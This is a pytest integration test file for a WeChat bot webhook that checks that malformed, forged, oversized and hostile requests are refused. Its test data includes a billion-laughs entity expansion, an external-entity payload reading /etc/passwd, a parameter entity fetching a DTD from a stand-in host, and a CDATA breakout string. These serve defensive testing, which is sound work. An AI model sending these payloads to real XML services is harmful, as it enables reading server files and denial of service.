import time
from dataclasses import replace

import pytest

import wsgi
from bot import wire
from bot.documents import InboxMessage, WeChatBinding
from bot.wire import BODY_LIMIT
from config.settings import SettingsError
from tests.integration.bot.conftest import MSG_IDS, envelope, message

LAUGHS = '<!DOCTYPE xml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
OPENID = "oTestUser000000000000000001"


def text(content):
    return message(OPENID, "text", Content=content, MsgId=next(MSG_IDS))


HOSTILE_XML = {
    "billion laughs": LAUGHS + text("&b;"),
    "external entity": '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + text("&x;"),
    "parameter entity": '<!DOCTYPE xml [<!ENTITY % x SYSTEM "http://203.0.113.1/x.dtd"> %x;]>' + text("a"),
    "nothing in it": "<xml/>",
    "no MsgType": text("a").replace("MsgType", "Other"),
    "MsgType twice": text("a").replace("<MsgType>", "<MsgType>text</MsgType><MsgType>"),
    "sender twice": text("a").replace("<FromUserName>", "<FromUserName>oY</FromUserName><FromUserName>"),
    "Content twice": text("a").replace("<Content>", "<Content>b</Content><Content>"),
    "Content nested": text("<b>a</b>"),
    "no MsgId": text("a").replace("MsgId", "Other"),
    "CreateTime in words": text("a").replace("<CreateTime>", "<CreateTime>x"),
    "wrong root": text("a").replace("xml>", "html>"),
    "JSON": '{"ToUserName": "gh", "MsgType": "text"}',
    "not XML": "hello",
    "empty": "",
    "location without numbers": message(OPENID, "location", Location_X="x", Location_Y="y", MsgId=1),
}


@pytest.mark.parametrize("xml", HOSTILE_XML.values(), ids=HOSTILE_XML)
def test_what_is_encrypted_well_but_written_badly_is_a_plain_400(user, xml):
    response = user.post(xml)
    assert (response.status_code, response.mimetype) == (400, "text/plain")
    assert InboxMessage.objects.count() == 0


BAD_BODIES = {
    "empty": b"",
    "JSON": b'{"Encrypt": "AAAA"}',
    "not UTF-8": b"\xff\xfe<xml>",
    "no Encrypt": b"<xml><A>1</A></xml>",
    "garbage": b"<xml><Encrypt><![CDATA[!!!]]></Encrypt></xml>",
    "two": b"<xml><Encrypt>AAAA</Encrypt><Encrypt>AAAA</Encrypt></xml>",
    "too large": b"<xml>" + b"<a/>" * BODY_LIMIT + b"</xml>",
}


@pytest.mark.parametrize("body", BAD_BODIES.values(), ids=BAD_BODIES)
def test_what_is_not_one_encrypted_message_is_a_plain_400(user, body):
    path, _ = envelope(user.account, text("hello"))
    response = user.client.post(path, data=body)
    assert (response.status_code, response.mimetype) == (400, "text/plain")


@pytest.mark.parametrize("encrypted", ["AAAA", "A" * 44, "QUJD", "A" * 4096])
def test_signed_garbage_is_a_plain_400(user, encrypted):
    path, _ = envelope(user.account, text("hello"))
    query = dict(part.split("=") for part in path.split("?")[1].split("&"))
    query["msg_signature"] = wire.sign(user.account.token, query["timestamp"], query["nonce"], encrypted)
    response = user.client.post("/wechat", query_string=query, data=f"<xml><Encrypt>{encrypted}</Encrypt></xml>")
    assert response.status_code == 400


def test_half_a_million_siblings_cost_no_parsing(user):
    path, _ = envelope(user.account, text("hello"))
    began = time.perf_counter()
    assert user.client.post(path, data=b"<xml>" + b"<a/>" * 500_000 + b"</xml>").status_code == 400
    assert time.perf_counter() - began < 0.5


FORGERIES = {
    "no signature": {"msg_signature": ""},
    "wrong signature": {"msg_signature": "0" * 40},
    "signature in Chinese": {"msg_signature": "签"},
    "an hour old": {"timestamp": int(time.time()) - 3600},
    "timestamp in words": {"timestamp": "now"},
    "timestamp in milliseconds": {"timestamp": int(time.time() * 1000)},
}


@pytest.mark.parametrize("changes", FORGERIES.values(), ids=FORGERIES)
def test_a_message_that_is_not_proved_by_msg_signature_is_refused(user, changes):
    assert user.post(text("hello"), **changes).status_code == 400
    assert WeChatBinding.objects.count() == 0


def test_the_plain_signature_alone_proves_nothing(user):
    path, body = envelope(user.account, text("hello"))
    _, other = envelope(user.account, text("another"))
    assert user.client.post(path, data=other).status_code == 400
    assert user.client.post(path, data=text("in plain words").encode()).status_code == 400
    assert user.client.post(path, data=body).status_code == 200


def test_another_accounts_message_is_refused(user):
    user.account = replace(user.account, appid="wx_somebody_else")
    assert user.post(text("hello")).status_code == 400


def test_control_characters_that_wechat_delivers_are_read_over(user):
    answer = user.send("text", Content="<![CDATA[帮\x1d助\x00]]>", MsgId=next(MSG_IDS))
    assert "怎么用" in answer["Content"]


def test_an_echoed_end_of_cdata_cannot_break_out(user, context):
    answer = user.send("text", Content="]]&gt;&lt;/Content&gt;&lt;MsgType&gt;news", MsgId=next(MSG_IDS))
    assert answer["MsgType"] == "text"
    assert "没有找到" in answer["Content"]


def test_an_empty_text_is_answered_in_words(user, context):
    assert user.send("text", Content="", MsgId=next(MSG_IDS))["Content"]


@pytest.mark.parametrize("event", ["LOCATION", "VIEW", "TEMPLATESENDJOBFINISH", "something_new", "SCAN"])
def test_events_nobody_waits_for_get_an_unencrypted_success(user, event):
    response = user.post(message(OPENID, "event", Event=event, Latitude="1", Longitude="2"))
    assert (response.data, response.mimetype) == (b"success", "text/plain")


@pytest.mark.parametrize("kind", ["video", "shortvideo", "link", "miniprogrampage", "something_new"])
def test_kinds_that_cannot_be_read_are_answered_in_words(user, kind):
    assert "看不了" in user.send(kind, MsgId=next(MSG_IDS))["Content"]


def test_an_answer_is_text_xml_with_seconds(user):
    response = user.post(text("帮助"))
    assert response.content_type == "text/xml; charset=utf-8"
    assert f"<TimeStamp>{str(int(time.time()))[:8]}" in response.text


def test_the_handshake_echoes_only_what_is_signed(user):
    now = str(int(time.time()))
    signed = {"timestamp": now, "nonce": "n", "echostr": "echo-1", "signature": wire.sign(user.account.token, now, "n")}
    assert user.client.get("/wechat", query_string=signed).text == "echo-1"
    assert user.client.get("/wechat", query_string=signed | {"signature": "0"}).status_code == 400


def test_without_an_account_there_is_no_such_address(app, user, monkeypatch):
    monkeypatch.setitem(app.extensions, "chati.wechat", None)
    assert user.client.get("/wechat").status_code == 404
    assert user.post(text("hello")).status_code == 404


def test_outside_demo_there_is_neither_simulator_nor_stand_in_nor_account(settings):
    keys = dict.fromkeys(("secret_key", "sign_key", "data_key"), "k" * 32)
    client = wsgi.create_app(replace(settings, demo=False, **keys)).test_client()
    assert client.get("/simulator").status_code == 404
    assert client.post("/simulator/api/cgi-bin/stable_token", json={}).status_code == 404
    assert client.get("/wechat").status_code == 404


def test_a_half_configured_account_does_not_start(settings):
    with pytest.raises(SettingsError, match="CHATI_WECHAT_TOKEN"):
        wsgi.create_app(replace(settings, wechat_appid="wx1", wechat_secret="s", wechat_aes_key="A" * 43))


def test_the_domain_is_proved_by_the_configured_file(app, client, monkeypatch):
    settings = replace(app.config["CHATI"], wechat_verify="MP_verify_abc.txt=abc")
    monkeypatch.setitem(app.config, "CHATI", settings)
    assert client.get("/MP_verify_abc.txt").text == "abc"
    assert client.get("/MP_verify_xyz.txt").status_code == 404
